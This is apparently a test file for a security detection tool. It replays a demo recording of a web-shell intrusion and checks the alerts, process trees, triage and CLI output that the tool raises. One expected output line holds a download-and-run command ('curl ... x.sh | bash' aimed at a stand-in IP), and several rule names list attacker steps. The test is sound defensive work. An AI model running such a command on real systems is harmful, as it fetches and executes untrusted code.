// Detection through the Workbench API, on the bundled demo recording (a web shell turned into a foothold
// on web-01; routine work on db-01): signals on ingest with the process tree as it was, retro-hunts that
// add nothing twice, triage, and the `workbench detect` command on the same recording.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inProcessApi } from '../src-shared/api/dispatch.ts';
import { runCli } from './cli/program.ts';
import { MemorySecretStore, nodePaths } from './platform/index.ts';
import { Workbench } from './workbench.ts';

let workbench: Workbench;
let api: ReturnType<typeof inProcessApi>;

beforeAll(async () => {
  workbench = new Workbench({ host: 'cli', paths: { ...nodePaths({}), dataDir: mkdtempSync(join(tmpdir(), 'wb-detect-')) }, secrets: new MemorySecretStore() });
  api = inProcessApi(workbench.handlers());
  await api.call('cases.openDemo', {});
});
afterAll(() => workbench?.close());

describe('detection in a case', () => {
  it('raises a signal for each step of the intrusion on web-01 and none for routine work on db-01', async () => {
    const signals = await api.call('signals.list', {});
    const rules = new Set(signals.map((s) => s.rule.id));
    for (const step of ['web_script_written_to_upload_folder', 'web_server_spawned_shell', 'download_piped_to_shell', 'interactive_shell_without_terminal', 'password_hashes_read', 'cron_file_written', 'authorized_keys_written', 'ssh_connection_from_service', 'shell_history_deleted']) {
      expect(rules, step).toContain(step);
    }
    expect(new Set(signals.map((s) => s.hostName))).toEqual(new Set(['web-01']));
    for (const signal of signals) expect(signal.rule.triage.length, signal.rule.id).toBeGreaterThan(0);
  });

  it('keeps the first match with its process context and ancestry as they were', async () => {
    const [summary] = await api.call('signals.list', { ruleId: 'password_hashes_read' });
    const signal = await api.call('signals.get', { id: summary!.id });
    expect(signal.rule).toMatchObject({ severity: 'high', tactic: 'TA0006' });
    const process = signal.firstEvent['process'] as { pid: number; cwd: string; ancestors: Array<{ pid: number; file: { path: string } }> };
    expect(process).toMatchObject({ pid: 23035, cwd: '/var/www/html' });
    // cat ← bash -c ← sudo ← interactive bash ← implant ← … ← php-fpm worker ← php-fpm master ← systemd
    expect(process.ancestors.map((a) => a.pid)).toEqual([23034, 23033, 23030, 23026, 23022, 23020, 841, 840, 1]);
    expect(signal.matches.map((m) => m.type)).toEqual(['open']);
  });

  it('adds nothing twice when the rules run again over the stored events', async () => {
    const before = await api.call('signals.list', {});
    const progress: Array<{ fraction: number | null; detail: string; state: string }> = [];
    const stop = api.subscribe('progress', {}, (event) => progress.push(event));
    const hunt = await api.call('detect.retroHunt', {});
    stop();
    expect(hunt.events).toBeGreaterThan(90);
    // the user sees how far it got, then what it found
    expect(progress.some((p) => p.state === 'running' && p.detail === `${hunt.events} of ${hunt.events} events`)).toBe(true);
    expect(progress.at(-1)).toMatchObject({ state: 'done', fraction: 1, detail: `${hunt.events} events, ${hunt.matches} matches, 0 new signals` });
    expect(hunt.newSignals).toBe(0);
    expect((await api.call('signals.list', {})).map((s) => [s.id, s.matchCount])).toEqual(before.map((s) => [s.id, s.matchCount]));
  });

  it('moves a signal through triage with an assignee and notes', async () => {
    const [signal] = await api.call('signals.list', { ruleId: 'download_piped_to_shell' });
    expect(await api.call('signals.update', { id: signal!.id, status: 'under_review', assignee: 'alice' })).toMatchObject({ status: 'under_review', assignee: 'alice' });
    const noted = await api.call('signals.addNote', { id: signal!.id, author: 'alice', text: 'x.sh fetched the implant' });
    expect(noted.notes.map((n) => n.text)).toEqual(['x.sh fetched the implant']);
    expect((await api.call('signals.list', { statuses: ['under_review'] })).map((s) => s.id)).toEqual([signal!.id]);
    await expect(api.call('signals.update', { id: 99_999, status: 'archived' })).rejects.toMatchObject({ code: 'not_found' });
  });
});

describe('npx workbench detect', () => {
  const recording = resolve(import.meta.dirname, '../resources/demo/web-01.ndjson');
  const run = async (args: string[]) => {
    let out = '';
    let err = '';
    const code = await runCli(args, { out: (t) => (out += t), err: (t) => (err += t), env: process.env });
    return { code, out, err };
  };

  it('prints the signals a recording produces, with a summary line', async () => {
    const { code, out } = await run(['detect', '--rules', resolve(import.meta.dirname, '../rules/runtime'), '--events', recording]);
    expect(code).toBe(0);
    expect(out).toMatch(/^SEVERITY\s+RULE\s+ATT&CK\s+MATCHES\s+PROCESS/m);
    expect(out).toMatch(/high\s+download_piped_to_shell\s+T1059\.004\s+1\s+sh -c curl -s http:\/\/203\.0\.113\.45\/x\.sh \| bash \(pid 23020\)/);
    expect(out.trim().split('\n').at(-1)).toMatch(/^events 76, rules \d{3}, signals \d+$/);
  });

  it('gives each signal in JSON with its rule, severity, ATT&CK mapping and matched events in full', async () => {
    const { code, out } = await run(['detect', '--rules', resolve(import.meta.dirname, '../rules/runtime'), '--events', recording, '--json']);
    expect(code).toBe(0);
    const signals = out.trim().split('\n').map((line) => JSON.parse(line) as { rule: { id: string }; severity: string; attack: { tactic: string; technique: string }; first_event: { process: { cwd: string; argv: string[]; ancestors: unknown[] } }; events: Array<{ seq: number }> });
    const shell = signals.find((s) => s.rule.id === 'interactive_shell_without_terminal')!;
    expect(shell).toMatchObject({ severity: 'high', attack: { tactic: 'TA0011', technique: 'T1095' } }); // command and control: a shell over a socket
    expect(shell.first_event.process).toMatchObject({ cwd: '/var/www/html', argv: ['-i'] });
    expect(shell.first_event.process.ancestors.length).toBeGreaterThan(3);
    expect(shell.events[0]!.seq).toBeGreaterThan(0);
  });

  it('names an events file it cannot read', async () => {
    const { code, err } = await run(['detect', '--rules', resolve(import.meta.dirname, '../rules/runtime'), '--events', '/nonexistent.ndjson']);
    expect(code).toBe(2);
    expect(err).toContain('cannot read /nonexistent.ndjson');
  });
});
